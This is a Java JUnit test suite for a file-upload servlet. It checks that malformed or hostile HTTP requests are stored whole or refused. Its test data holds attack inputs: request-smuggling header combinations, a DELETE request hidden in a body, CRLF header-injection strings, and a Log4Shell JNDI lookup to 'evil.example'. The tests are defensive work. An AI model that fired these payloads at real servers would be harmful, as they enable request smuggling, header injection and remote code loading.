package dev.filestore.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import dev.filestore.servlet.Wire.Answer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Uploads in HTTP that is not what it says, or is none: the whole file is stored, or nothing is. */
abstract class HostileRequestsContract extends HostileContract.Group {

    private static final byte[] FORM =
            new Form().file("file", "a.pdf", "application/pdf", HttpCalls.PDF).bytes();

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] chunks(String form) {
        String body = new String(FORM, StandardCharsets.ISO_8859_1);
        return form.replace("HALF1", body.substring(0, 100))
                .replace("HALF2", body.substring(100))
                .replace("SIZE1", Integer.toHexString(100))
                .replace("SIZE2", Integer.toHexString(body.length() - 100))
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    /** One of the two; containers differ over what is no proper HTTP. */
    private void assertWholeOrRefused(Answer answer) {
        if (answer.status() == 201) {
            assertStored(answer);
        } else {
            assertRefusedBySomebody(answer);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SIZE1\r\nHALF1\r\nSIZE2\r\nHALF2\r\n0\r\n\r\n",
                "000SIZE1;name=value;x=\"a;b\"\r\nHALF1\r\nSIZE2;evil\r\nHALF2\r\n0;last\r\n\r\n",
                "SIZE1\r\nHALF1\r\nSIZE2\r\nHALF2\r\n0\r\nX-Evil: y\r\nContent-Length: 5\r\nContent-Disposition: x\r\n\r\n",
            })
    void upload_inChunks_isStored(String body) {
        assertStored(upload(chunks(body), "Transfer-Encoding: chunked"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "0\r\n\r\n",
                "SIZE1\r\nHALF1\r\n0\r\n\r\n",
                "SIZE1\r\nHALF1\r\nSIZE2\r\nHALF2",
                "SIZE1\r\nHALF1",
                "xyz\r\nHALF1HALF2\r\n0\r\n\r\n",
                "-5\r\nHALF1\r\n0\r\n\r\n",
                "FFFFFFFFFFFFFFFFFFFF\r\nHALF1HALF2\r\n0\r\n\r\n",
                "7FFFFFFFFFFFFFFF\r\nHALF1HALF2\r\n0\r\n\r\n",
                "SIZE2\r\nHALF1\r\nSIZE1\r\nHALF2\r\n0\r\n\r\n",
            })
    void upload_brokenChunks_areRefused(String body) {
        assertRefusedBySomebody(upload(chunks(body), "Transfer-Encoding: chunked"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SIZE1\nHALF1\nSIZE2\nHALF2\n0\n\n",
                "SIZE1;a=\"\n\"\r\nHALF1\r\nSIZE2\r\nHALF2\r\n0\r\n\r\n",
                "SIZE1 \r\nHALF1\r\nSIZE2\r\nHALF2\r\n0\r\n\r\n",
                "0xSIZE1\r\nHALF1\r\nSIZE2\r\nHALF2\r\n0\r\n\r\n"
            })
    void upload_oddChunks_areStoredWholeOrRefused(String body) {
        assertWholeOrRefused(upload(chunks(body), "Transfer-Encoding: chunked"));
    }

    /**
     * CVE-2023-40167 (Jetty): a length with a plus sign was taken. CVE-2026-53540 (python-multipart): a negative one made it
     * read all at once.
     */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Content-Length: -1",
                "Content-Length: +5",
                "Content-Length: 0x10",
                "Content-Length: 1e3",
                "Content-Length: 99999999999999999999",
                "Content-Length: 10, 20",
                "Content-Length: 10\r\nContent-Length: 20",
                "Content-Length: 10",
                "Content-Length: 0",
                "Content-Length: 100000",
            })
    void upload_lengthThatLies_isRefused(String line) {
        assertRefusedBySomebody(upload(FORM, line));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Transfer-Encoding: chunked\r\nContent-Length: LENGTH",
                "Content-Length: LENGTH\r\nTransfer-Encoding: chunked",
                "Transfer-Encoding: chunked\r\nContent-Length: 5",
                "Transfer-Encoding: identity\r\nContent-Length: LENGTH",
                "Transfer-Encoding: gzip, chunked",
                "Transfer-Encoding: chunked, gzip",
                "Transfer-Encoding: chunked, chunked",
                "Transfer-Encoding: xchunked\r\nContent-Length: LENGTH",
                "Transfer-Encoding : chunked\r\nContent-Length: LENGTH",
                "Transfer-Encoding: \"chunked\"\r\nContent-Length: LENGTH",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: LENGTH",
                " Transfer-Encoding: chunked\r\nContent-Length: LENGTH",
            })
    void upload_lengthSaidTwice_isStoredWholeOrRefused(String lines) {
        byte[] inChunks = chunks("SIZE1\r\nHALF1\r\nSIZE2\r\nHALF2\r\n0\r\n\r\n");
        for (byte[] body : Arrays.asList(FORM, inChunks)) {
            user = user + "-x";
            assertWholeOrRefused(upload(body, lines.replace("LENGTH", Integer.toString(body.length))));
        }
    }

    @Test
    void upload_byHttp10_needsALength() {
        String type = "Content-Type: " + new Form().contentType();
        Wire wire = target().as(user);

        assertRefusedBySomebody(wire.exchange(wire.head("POST", "/upload", "HTTP/1.0", type), FORM));
        Answer answer =
                wire.exchange(wire.head("POST", "/upload", "HTTP/1.0", type, "Content-Length: " + FORM.length), FORM);
        assertStored(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Expect: 200-maybe",
                "Expect: 100-continue",
                "Upgrade: h2c\r\nConnection: Upgrade",
                "Trailer: Content-Length"
            })
    void upload_oddWish_isStoredWholeOrRefused(String line) {
        assertWholeOrRefused(upload(FORM, line));
    }

    /** What is left of the body of a request that was refused is not the next request. */
    @Test
    void refusedBody_isNotTakenForARequest() {
        Wire wire = target().as(user);
        byte[] hidden = wire.head("DELETE", "/1", "HTTP/1.1");
        for (String path : new String[] {"/upload", "/presigned-url", "/nothing/at/all", "", "/x"}) {
            String head = new String(
                            wire.head("POST", path, "HTTP/1.1", "Content-Length: " + hidden.length),
                            StandardCharsets.ISO_8859_1)
                    .replace("Connection: close\r\n", "");

            Answer first = wire.exchange(ascii(head), hidden, wire.head("GET", "?limit=7", "HTTP/1.1"));

            assertThat(first.status()).isBetween(400, 405);
            // Tomcat closes the connection behind such an answer; Jetty goes on to the request that follows the body.
            String all = new String(first.body(), StandardCharsets.ISO_8859_1);
            int second = all.indexOf("HTTP/1.1 ");
            assertThat(second < 0 ? "\"limit\":7" : all.substring(second)).contains("\"limit\":7");
            assertThat(all.split("HTTP/1\\.1 ", -1)).as(all).hasSizeLessThanOrEqualTo(2);
        }
    }

    /** CVE-2026-3260 (Undertow): a form in a GET was parsed, and spooled to disk. */
    @Test
    void list_withAFormAsItsBody_isAList() {
        Answer answer = send("GET", "", FORM, "Content-Type: " + new Form().contentType());

        assertThat(json(answer).path("total").asInt()).isZero();
        assertNothingStored();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "X-Request-Id: abcdefgh\r\n X-Evil: y",
                "X-Request-Id: abcdefgh\rX-Evil: y",
                "X-Request-Id: abcdefgh\nX-Evil: y",
                "X-Request-Id: abcdefgh%0d%0aX-Evil: y",
                "X-Request-Id: abcdefgh status=200",
                "X-Request-Id: abcdefgh\u00e9",
                "X-Request-Id: abcdefgh\u001b[31m",
                "X-Request-Id: abcdefgh\0",
                "X-Request-Id: ${jndi:ldap://evil.example/a}"
            })
    void requestId_thatIsNone_isReplaced(String line) {
        Wire wire = target().as(user);

        Answer answer = wire.exchange(wire.head("GET", "", "HTTP/1.1", line));

        assertThat(answer.fields())
                .noneMatch(field -> field.toLowerCase(java.util.Locale.ROOT).startsWith("x-evil"));
        String id = answer.field("X-Request-Id");
        if (id == null || answer.status() == 400) {
            assertRefusedBySomebody(answer);
        } else {
            // A line feed ends a line for Jetty and Tomcat: then it is two fields, as was sent.
            assertThat(id).matches("[0-9a-f-]{36}|abcdefgh");
            assertLoggedHarmlessly(id);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sha-256=:AAAA:, evil=<script>",
                "a=:AAAA:;x=\"\\",
                "sha-256=:\u00e9:",
                "sha-256",
                "=",
                ":",
                "sha-256=:AAAA:\u001b[31m",
                "sha-256=:AA'AA:"
            })
    void upload_digestThatIsNone_isRefused(String value) {
        assertRefusedBySomebody(upload(FORM, "Content-Digest: " + value));
        assertRefusedBySomebody(upload(FORM, "Repr-Digest: " + value.repeat(7_000 / value.length())));
    }
}
